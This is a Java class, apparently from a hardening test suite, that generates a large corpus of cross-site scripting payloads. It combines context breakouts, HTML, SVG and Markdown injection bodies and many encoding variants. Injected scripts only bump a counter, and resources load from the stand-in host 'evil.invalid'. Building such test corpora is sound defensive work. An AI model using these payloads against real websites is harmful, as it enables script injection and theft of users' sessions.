package org.vouch.hardening;

import java.util.ArrayList;
import java.util.List;
import java.util.Locale;
import java.util.function.UnaryOperator;

/**
 * Texts that want to be run by a browser: what may break out of its place, then what would run or ask for something, in
 * every spelling that some reader of HTML, JavaScript, XML or Markdown may undo. What runs calls {@code hit}.
 */
public final class Payloads {
    private static final String RUN = "(top.hit=(top.hit||0)+1)";
    private static final String HOST = "//evil.invalid/x";

    private static final List<String> BREAKS = List.of(
            "",
            "\">",
            "'>",
            "\" ",
            "-->",
            "]]>",
            "?>",
            "</script>",
            "</title>",
            "</style>",
            "</textarea>",
            "</svg>",
            "</a></p>",
            "</mark></q>",
            "\\\"-",
            "';",
            "\u2028",
            "`",
            "*",
            "\"}]}");

    private static final List<String> BODIES = List.of(
            "<script>RUN</script>",
            "<script src=HOST></script>",
            "<img src=x onerror=RUN>",
            "<img src=HOST>",
            "<svg onload=RUN>",
            "<svg><script>RUN</script></svg>",
            "<math><mtext></p><img src=x onerror=RUN></mtext></math>",
            "<iframe srcdoc='<script>RUN</script>'></iframe>",
            "<iframe src=HOST></iframe>",
            "<object data=HOST></object>",
            "<embed src=HOST>",
            "<base href=HOST>",
            "<meta http-equiv=refresh content='0;url=HOST'>",
            "<link rel=stylesheet href=HOST>",
            "<style>@import 'HOST';</style>",
            "<form action=HOST><button autofocus onfocus=RUN>",
            "<input autofocus onfocus=RUN>",
            "<details open ontoggle=RUN>x</details>",
            "<video src=x onerror=RUN></video>",
            "<audio src=HOST></audio>",
            "<a href=\"javascript:RUN\" autofocus onfocus=RUN>x</a>",
            "[x](javascript:RUN)",
            "![x](HOST)",
            "<sub onclick=RUN autofocus tabindex=1 onfocus=RUN>x</sub>",
            "<br onload=RUN>",
            "onmouseover=RUN autofocus tabindex=1 onfocus=RUN x=",
            "<!--<script>RUN</script>",
            "<![CDATA[<script>RUN</script>]]>",
            "<template shadowrootmode=open><script>RUN</script></template>",
            "<noscript><img src=x onerror=RUN></noscript>",
            "<plaintext>",
            "<body onload=RUN>");

    private static final List<UnaryOperator<String>> SPELLINGS = List.of(
            body -> body,
            body -> body.toUpperCase(Locale.ROOT).replace("RUN", RUN).replace("HOST", HOST),
            body -> body.replace("<", "&lt;").replace(">", "&gt;"),
            body -> body.replace("<", "&#60;").replace(">", "&#x3e"),
            body -> body.replace("<", "%3C").replace(">", "%3E"),
            body -> body.replace("<", "\\u003c").replace(">", "\\u003e"),
            body -> body.replace("<", "<\t").replace("=", " = "),
            body -> body.replace(" ", "/"),
            body -> body.replace("<", "\uff1c").replace(">", "\uff1e"),
            body -> body.replace("<", "<<").replace(">", ">>"),
            body -> body.replace("<", "\\<").replace("=", "=\"\"\""),
            body -> "${" + body + "}<#-- " + body);

    private Payloads() {}

    public static List<String> all() {
        List<String> all = new ArrayList<>();
        for (UnaryOperator<String> spelling : SPELLINGS) {
            for (String breaks : BREAKS) {
                for (String body : BODIES) {
                    all.add(breaks + spelling.apply(body).replace("RUN", RUN).replace("HOST", HOST));
                }
            }
        }
        return all;
    }
}
